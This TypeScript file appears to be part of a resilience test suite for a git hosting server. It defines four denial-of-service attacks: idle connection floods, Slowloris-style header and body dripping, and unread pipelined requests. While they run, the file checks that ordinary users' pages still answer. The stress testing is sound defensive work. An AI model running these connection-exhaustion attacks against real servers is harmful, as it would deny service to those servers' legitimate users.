import { connect, type Socket } from "node:net";
import type { Attack, Target } from "../attack.ts";

/** Opens so many connections, each of which does as it likes, for as long as the work takes. */
async function withConnections(
  { url }: Target,
  count: number,
  each: (socket: Socket, at: number) => void,
  work: () => Promise<void>,
): Promise<void> {
  const { hostname, port } = new URL(url);
  const sockets = Array.from({ length: count }, (_, at) => {
    const socket = connect(Number(port), hostname);
    socket.on("error", () => socket.destroy());
    socket.once("connect", () => each(socket, at));
    return socket;
  });
  try {
    await work();
  } finally {
    for (const socket of sockets) socket.destroy();
  }
}

/** What others do meanwhile: pages, and work that needs a new thread. */
async function othersWork({ ask, stranger, token }: Target, rounds: number): Promise<void> {
  for (let round = 0; round < rounds; round++) {
    const answers = [
      await ask(stranger.repo),
      await ask(`/api/v1/repos${stranger.repo}`),
      await ask("/api/v1/markdown/raw", { body: `\`\`\`ts\nconst a = ${Math.random()};\n\`\`\`\n`.repeat(200), token }),
    ];
    for (const { status, text } of answers)
      if (status !== 200) throw new Error(`another one was answered ${status}: ${text}`);
    await Bun.sleep(20);
  }
}

const SILENT = 1_500;
const SLOW = 300;

export const connectionAttacks: readonly Attack[] = [
  {
    name: `${SILENT} connections that say nothing`,
    run: (target) =>
      withConnections(
        target,
        SILENT,
        () => {},
        () => othersWork(target, 10 * target.scale),
      ),
  },
  {
    name: `${SLOW} connections whose headers come a character at a time`,
    run: async (target) => {
      const timers: Timer[] = [];
      const drip = (socket: Socket) => {
        socket.write("GET /explore/repos HTTP/1.1\r\nHost: x\r\nX-A: ");
        timers.push(setInterval(() => socket.write("a"), 50));
      };
      await withConnections(target, SLOW, drip, () => othersWork(target, 10 * target.scale));
      for (const timer of timers) clearInterval(timer);
    },
  },
  {
    name: `${SLOW} connections whose bodies come a character at a time`,
    run: async (target) => {
      const timers: Timer[] = [];
      const places = ["/user/login", "/api/v1/markdown", `${target.stranger.repo}.git/git-upload-pack`];
      const drip = (socket: Socket, at: number) => {
        const type = at % 3 === 2 ? "application/x-git-upload-pack-request" : "application/x-www-form-urlencoded";
        socket.write(
          `POST ${places[at % 3]} HTTP/1.1\r\nHost: x\r\nContent-Type: ${type}\r\nContent-Length: 900000\r\n\r\n`,
        );
        timers.push(setInterval(() => socket.write("a"), 50));
      };
      await withConnections(target, SLOW, drip, () => othersWork(target, 10 * target.scale));
      for (const timer of timers) clearInterval(timer);
    },
  },
  {
    name: "2,000 requests in one connection, none of whose answers is read",
    run: (target) =>
      withConnections(
        target,
        20,
        (socket) => {
          socket.pause();
          for (let count = 0; count < 2_000; count++) socket.write("GET /explore/repos HTTP/1.1\r\nHost: x\r\n\r\n");
        },
        () => othersWork(target, 10 * target.scale),
      ),
  },
];
